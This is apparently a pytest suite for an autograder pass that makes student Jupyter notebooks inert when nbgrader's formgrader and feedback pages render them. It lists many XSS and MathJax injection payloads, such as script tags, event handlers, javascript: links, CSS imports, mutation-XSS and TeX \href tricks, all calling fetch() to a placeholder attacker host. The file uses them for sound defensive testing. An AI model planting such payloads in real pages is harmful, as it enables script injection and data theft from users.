"""SafeForPages: what formgrader and the feedback page render of a student's notebook is inert.

Each vector below is something a student can put into their notebook (an output their code
displays, a markdown or raw cell, an output's metadata). After the pass, the notebook is
rendered with the templates nbgrader uses (formgrader's and the feedback page's), and the
HTML is read as a browser would: no element or attribute of the student's may run script or
make a request. (The browser itself is in tests/test_browser_hostile.py.)
"""
from __future__ import annotations

import base64

import nbformat
import pytest
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)
from pages import live

from autograder.instructor.passes.safe_for_pages import WRAPPED, SafeForPages, as_text

HTML_VECTORS = [
    "<script>fetch('//zz-attacker.invalid/s')</script>",
    "<img src=x onerror=\"fetch('//zz-attacker.invalid/i')\">",
    "<svg onload=\"fetch('//zz-attacker.invalid/v')\"><circle r=5 /></svg>",
    "<iframe src='//zz-attacker.invalid/f'></iframe>",
    "<meta http-equiv='refresh' content='0;url=//zz-attacker.invalid/m'>",
    "<base href='//zz-attacker.invalid/'>",
    "<a href='javascript:fetch(`//zz-attacker.invalid/a`)'>click</a>",
    "<div style=\"background:url('//zz-attacker.invalid/c')\">styled</div>",
    "<style>@import url('//zz-attacker.invalid/css');</style>",
    "<link rel=stylesheet href='//zz-attacker.invalid/l.css'>",
    "<object data='//zz-attacker.invalid/o'></object><embed src='//zz-attacker.invalid/e'>",
    "<form action='//zz-attacker.invalid/form'><input autofocus onfocus=\"fetch('//zz-attacker.invalid/x')\"></form>",
    "<details open ontoggle=\"fetch('//zz-attacker.invalid/d')\">x</details>",
    "<math><mtext><table><mglyph><style><img src=x onerror=\"fetch('//zz-attacker.invalid/mx')\">",
    "<img src='//zz-attacker.invalid/plain.png'>",
]
MARKDOWN_VECTORS = HTML_VECTORS + [
    "[click](javascript:fetch('//zz-attacker.invalid/md'))",
    "![tracker](http://zz-attacker.invalid/track.png)",
    "$\\href{javascript:fetch('//zz-attacker.invalid/tex')}{x}$",
    "```\n```\n<script>fetch('//zz-attacker.invalid/fence')</script>",
]
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n" + b"\x00" * 20).decode()


def _output(mime: str, value, metadata=None, kind="display_data"):
    out = new_output(kind, data={mime: value, "text/plain": "fallback text"}, metadata=metadata or {})
    if kind == "execute_result":
        out.execution_count = 1
    return out


def hostile_notebook():
    outputs = [_output("text/html", v) for v in HTML_VECTORS] + [
        _output("application/javascript", "fetch('//zz-attacker.invalid/js')"),
        _output("image/svg+xml", "<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('//zz-attacker.invalid/svg')\"/>"),
        _output("text/latex", "$\\href{javascript:fetch('//zz-attacker.invalid/latex')}{x}$"),
        _output("text/markdown", "[x](javascript:fetch('//zz-attacker.invalid/mdout'))"),
        _output("application/vnd.jupyter.widget-view+json", {"model_id": "x", "version_major": 2}),
        _output("image/png", "x\" onerror=\"fetch('//zz-attacker.invalid/png')"),
        _output("image/png", PNG, {"image/png": {"width": "1 onerror=fetch('//zz-attacker.invalid/w')",
                                                 "height": 10}}),
        _output("text/html", "<b>bold</b> and <table><tr><td>a table</td></tr></table>", kind="execute_result"),
    ]
    code = new_code_cell("display(...)", outputs=outputs)
    code.execution_count = "<img src=x onerror=\"fetch('//zz-attacker.invalid/count')\">"
    cells = [code] + [new_markdown_cell(v) for v in MARKDOWN_VECTORS]
    cells += [new_raw_cell(v) for v in HTML_VECTORS[:3]]
    raw = new_raw_cell("<script>fetch('//zz-attacker.invalid/raw')</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    cells.append(raw)
    lesson = new_markdown_cell("## The instructor's heading\n\nWith *emphasis* and $x^2$.")
    lesson.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": True, "grade_id": "intro",
                                   "schema_version": 3}
    cells.append(lesson)
    nb = new_notebook()
    nb.cells = cells  # (not validated: a student's notebook need not be valid)
    return nb


def render(nb, template: str) -> str:
    import os

    import nbgrader
    from nbconvert import HTMLExporter

    from autograder.instructor.passes.feedback_exporter import FeedbackExporter

    formgrader = os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions", "formgrader")
    paths = dict(template_name=template, extra_template_basedirs=[os.path.join(formgrader, "templates")],
                 extra_template_paths=[os.path.join(formgrader, "static", "node_modules", "bootstrap", "dist", "css")])
    exporter = FeedbackExporter(**paths) if template == "feedback" else HTMLExporter(**paths)
    resources = {"nbgrader": {"notebook": "nb", "score": 0, "max_score": 1, "late_penalty": 0}, "index": 0, "total": 1,
                 "notebook_id": "nb", "assignment_id": "a", "base_url": ""}
    html, _ = exporter.from_notebook_node(nb, resources=resources)
    return html


@pytest.mark.parametrize("template", ["classic", "lab"])
def test_nothing_a_student_wrote_is_live_after_the_pass(template):
    safe, _ = SafeForPages().preprocess(hostile_notebook(), {})
    nbformat.validate(safe)
    baseline = render(new_notebook(), template)
    assert live(render(safe, template), baseline) == []
    # and without the pass, the vectors are live: the check can fail
    unsafe = hostile_notebook()
    unsafe.cells[0].execution_count = 1  # (nbconvert refuses to render the forged count at all)
    assert len(live(render(unsafe, template), baseline)) > 10


def test_the_feedback_page_is_inert_too():
    """nbgrader's feedback template (formgrader's page is checked in the browser)."""
    safe, _ = SafeForPages().preprocess(hostile_notebook(), {})
    assert live(render(safe, "feedback"), render(new_notebook(), "feedback")) == []


def test_content_still_shows():
    safe, _ = SafeForPages().preprocess(hostile_notebook(), {})
    code = safe.cells[0]
    assert code.execution_count is None
    kinds = [sorted(o.data) for o in code.outputs]
    assert all("text/plain" in k for k in kinds)  # every output keeps its text
    assert ["image/png", "text/plain"] in kinds  # a real image stays, with a numeric size only
    assert code.outputs[-2].metadata == {"image/png": {"height": 10}}
    assert code.outputs[-1].output_type == "execute_result"
    assert code.outputs[-1].data["text/html"] == \
        f"{WRAPPED}<b>bold</b> and <table><tbody><tr><td>a table</td></tr></tbody></table></div>"
    assert "&lt;script&gt;" in code.outputs[0].data["text/html"]  # shown as text: the instructor sees the try
    students = [c for c in safe.cells if c.cell_type == "markdown" and "nbgrader" not in c.metadata]
    assert len(students) == len(MARKDOWN_VECTORS) + 4 and all(c.source.startswith("```") for c in students)
    assert safe.cells[-1].source.startswith("## The instructor's heading")  # the lesson's prose renders
    html = render(safe, "lab")
    assert "<h2" in html and "The instructor" in html
    assert "&lt;script&gt;fetch('//zz-attacker.invalid/fence')&lt;/script&gt;" in html


def test_the_pass_can_run_twice():
    once, _ = SafeForPages().preprocess(hostile_notebook(), {})
    twice, _ = SafeForPages().preprocess(nbformat.from_dict(once), {})
    assert twice == once


@pytest.mark.parametrize("text", ["plain", "with ``` fences ````", "`", "ends with fence\n```"])
def test_a_student_text_is_one_code_block(text):
    from nbconvert.filters import markdown2html

    html = markdown2html(as_text(text))
    assert html.count("<pre") == 1 and text.splitlines()[-1] in html


# -- MathJax: nothing of a student's is typeset ----------------------------------------------------
# Each of these would draw a link, a box over the page or load a MathJax extension if typeset.
TEX_VECTORS = [
    "$\\href{https://zz-attacker.invalid/grade}{Your grade was changed: click here}$",
    "$$\\style{position:fixed;top:0;left:0;width:100%;height:100%}{\\text{zz}}$$",
    "\\(\\class{btn}{\\text{zz}}\\)",
    "\\[\\unicode[zz]{x263A}\\]",
    "\\begin{equation}\\require{action}\\toggle{\\text{zz}}{x}\\endtoggle\\end{equation}",
    "\\begin{align*}\\href{javascript:alert(1)}{zz}\\end{align*}",
    "\\$ then $\\mathrm{zz}$",
]


def tex_notebook():
    """Every place a student's code puts text: HTML (as it is and inside allowed tags), plain
    text, LaTeX and Markdown outputs, both streams, an error's name, value and traceback, a result."""
    outputs = []
    for tex in TEX_VECTORS:
        outputs += [new_output("display_data", data={"text/html": f"<p>{tex}</p><div><span><b>{tex}</b></span></div>",
                                                      "text/plain": tex}),
                    new_output("display_data", data={"text/latex": tex, "text/markdown": tex, "text/plain": tex}),
                    new_output("stream", name="stdout", text=tex), new_output("stream", name="stderr", text=tex),
                    new_output("error", ename=tex, evalue=tex, traceback=[tex, f"\x1b[31m{tex}\x1b[0m"])]
    result = new_output("execute_result", data={"text/html": "".join(TEX_VECTORS)}, execution_count=1)
    code = new_code_cell("display(...)", outputs=outputs + [result])
    code.execution_count = 1
    nb = new_notebook(cells=[code, new_markdown_cell("\n\n".join(TEX_VECTORS)), _lesson()])
    nb.metadata["autograd_lessons"] = {"language": "en"}
    return nb


def _lesson():
    lesson = new_markdown_cell("## The instructor's heading\n\nWith *emphasis* and $x^2$.")
    lesson.metadata["nbgrader"] = {"grade": False, "solution": False, "locked": True, "grade_id": "intro",
                                   "schema_version": 3}
    return lesson


def render_page(nb, template: str) -> str:
    """``nb`` as one of the pages renders it: nbconvert's classic and lab templates, and the course's
    feedback page and formgrader page (the templates nbgrader_config.py names)."""
    import copy
    import os

    import nbgrader
    from nbconvert import HTMLExporter

    from autograder.instructor.passes.feedback_exporter import TEMPLATES, FeedbackExporter

    formgrader = os.path.join(os.path.dirname(nbgrader.__file__), "server_extensions", "formgrader")
    css = os.path.join(formgrader, "static", "node_modules", "bootstrap", "dist", "css")
    paths = dict(template_name=template, extra_template_basedirs=[os.path.join(formgrader, "templates"), TEMPLATES],
                 extra_template_paths=[os.path.join(formgrader, "templates"), css])
    exporter = FeedbackExporter(**paths) if template == "feedback_in_language" else HTMLExporter(**paths)
    resources = {"nbgrader": {"notebook": "nb", "score": 0, "max_score": 1, "late_penalty": 0}, "index": 0, "total": 1,
                 "notebook_id": "nb", "assignment_id": "a", "base_url": "", "student": "s"}
    return exporter.from_notebook_node(copy.deepcopy(nb), resources=resources)[0]


PAGES = ["classic", "lab", "feedback_in_language", "formgrade_inert"]


@pytest.mark.parametrize("template", PAGES)
def test_no_text_of_a_student_is_typeset_and_the_instructors_math_is(template):
    from pages import scanned, typeset

    safe, _ = SafeForPages().preprocess(tex_notebook(), {})
    baseline = render_page(new_notebook(cells=[_lesson()]), template)
    page = render_page(safe, template)
    assert typeset(page, baseline) == []
    assert any("$x^2$" in text for text in scanned(page))  # the lesson's own math is still typeset
    assert page.count("zz-attacker.invalid/grade") >= 2  # (the student's text is on the page, as text)


@pytest.mark.parametrize("template", ["classic", "lab"])
def test_without_the_wrapper_a_students_html_is_typeset(template):
    """The check can fail: bleach alone keeps TeX in HTML as text, which MathJax typesets."""
    from pages import typeset

    cleaned, _ = SafeForPages().preprocess(tex_notebook(), {})
    for output in cleaned.cells[0].outputs:
        html = output.get("data", {}).get("text/html", "")
        if html.startswith(WRAPPED):
            output.data["text/html"] = html[len(WRAPPED):-len("</div>")]
    found = typeset(render_page(cleaned, template), render_page(new_notebook(cells=[_lesson()]), template))
    assert len(found) >= len(TEX_VECTORS)


@pytest.mark.parametrize("template", ["feedback_in_language", "formgrade_inert"])
def test_the_course_pages_typeset_nothing_of_a_notebook_graded_before_the_wrapper(template):
    """Formgrader renders autograded notebooks as they were saved: one saved before SafeForPages
    wrapped HTML outputs (cleaned by bleach alone) has no TeX typeset on the course's pages either."""
    from pages import scanned, typeset

    old = tex_notebook()
    for output in old.cells[0].outputs:
        if "text/html" in output.get("data", {}):
            output.data = {"text/html": SafeForPages().sanitize_html_tags(output.data["text/html"])[len(WRAPPED):-6]}
    page = render_page(old, template)
    assert typeset(page, render_page(new_notebook(cells=[_lesson()]), template)) == []
    assert any("$x^2$" in text for text in scanned(page))
    assert 'class="tex2jax_ignore mathjax_ignore"' in page.split("<body", 1)[1][:60]


# -- the cleaning's cost is bounded ----------------------------------------------------------------
def _html_outputs(*htmls, plain=True):
    outputs = [new_output("display_data", data={"text/html": h, **({"text/plain": "plain"} if plain else {})})
               for h in htmls]
    return new_notebook(cells=[new_code_cell("display(...)", outputs=outputs)])


@pytest.mark.parametrize("html", [
    "<b>" * 32_666,  # the fourth round's case: unclosed formatting elements
    "".join(f"<b id={i}>" for i in range(9_000))[:90_000],  # no two alike: html5lib's limit of three never applies
    "<div>" * 20_000,
    "".join(f"<b {' '.join(f'a{j}' for j in range(200))} z{i}>" for i in range(300)),  # many attributes
    "".join(f"<b id={i}><p>" for i in range(120)) + "x</p>" * 120,  # every paragraph reopens every <b>
    "<!---->" * 10_000 + "</x>" * 10_000,  # comments and end tags are tags to html5lib too
])
def test_an_output_with_too_many_tags_is_shown_as_text_unparsed(html):
    safe, _ = SafeForPages().preprocess(_html_outputs(html, plain=False), {})
    [output] = safe.cells[0].outputs
    assert output.data == {"text/plain": html}  # its source, as text: nothing parsed, nothing lost
    safe, _ = SafeForPages().preprocess(_html_outputs(html), {})
    assert safe.cells[0].outputs[0].data == {"text/plain": "plain"}  # its own text version, when it has one


def test_a_notebook_parses_html_up_to_its_budget():
    from autograder.instructor.passes.safe_for_pages import MAX_TAGS, NOTEBOOK_CHARS, NOTEBOOK_TAGS

    tagged = "<b>x</b>" * (MAX_TAGS // 2)  # MAX_TAGS tags: parsed
    nb = _html_outputs(*[tagged] * (NOTEBOOK_TAGS // MAX_TAGS + 3))
    kinds = ["text/html" in o.data for o in SafeForPages().preprocess(nb, {})[0].cells[0].outputs]
    assert kinds == [True] * (NOTEBOOK_TAGS // MAX_TAGS) + [False] * 3
    wide = "x" * (NOTEBOOK_CHARS // 4)  # no tag, but characters
    kinds = ["text/html" in o.data for o in SafeForPages().preprocess(_html_outputs(*[wide] * 6), {})[0].cells[0].outputs]
    assert kinds == [True] * 4 + [False] * 2
    # each notebook has its own budget (one pass serves a whole grading worker)
    again = SafeForPages()
    for _ in range(2):
        assert all("text/html" in o.data for o in again.preprocess(_html_outputs(tagged), {})[0].cells[0].outputs)


def test_an_honest_lessons_html_is_all_parsed():
    """Every generated question's HTML in one notebook, as the grader draws it: parsed, cleaned
    as it was (bleach keeps it whole) and wrapped."""
    from autograder.judges import variants
    from autograder.wire.questions import question_html

    htmls = [question_html(q, variants.variant(q, None).shown()) for q in sorted(variants.FAMILIES)]
    outputs = SafeForPages().preprocess(_html_outputs(*htmls), {})[0].cells[0].outputs
    assert [o.data["text/html"] for o in outputs] == [f"{WRAPPED}{h}</div>" for h in htmls]
